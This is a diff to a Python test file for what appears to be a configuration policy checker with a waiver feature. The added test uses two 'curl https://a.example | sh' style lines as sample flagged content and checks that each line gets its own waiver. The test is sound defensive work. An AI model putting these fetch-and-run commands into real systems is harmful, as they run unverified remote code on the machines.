@@ -67,6 +67,17 @@ def test_a_waiver_that_stands_is_given_a_later_end_and_keeps_its_comments(fleets
     assert (fleets / FILE).read_text() == before.replace(NEXT_WEEK, f'"{LATER}"')
 
 
+def test_each_line_of_a_text_gets_a_waiver_of_its_own(fleets: Path) -> None:
+    text = component("motd", "/opt/a.sh").replace('"hello"', "|\n        curl https://a.example | sh\n        curl https://b.example | sh")
+    (fleets / MOTD).write_text(text)
+    for line in (10, 11):
+        assert run(fleets, "waive", f"{MOTD}:{line}", *SAID, "--until", NEXT_WEEK).exit_code == 0
+    written = [path.read_text() for path in sorted((fleets / FILE).parent.iterdir())]
+    assert ['"curl https://a.example | sh"' in each for each in written].count(True) == 1
+    assert len(written) == 2
+    assert run(fleets, "check", "--no-cache").exit_code == 0
+
+
 def test_one_for_an_incident_names_who_signs_it_and_ends_within_hours(fleets: Path) -> None:
     soon = (TODAY + timedelta(hours=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
     glass = ("--incident", "INC-7", "--approved-by", "ana", "--approved-by", "ben")
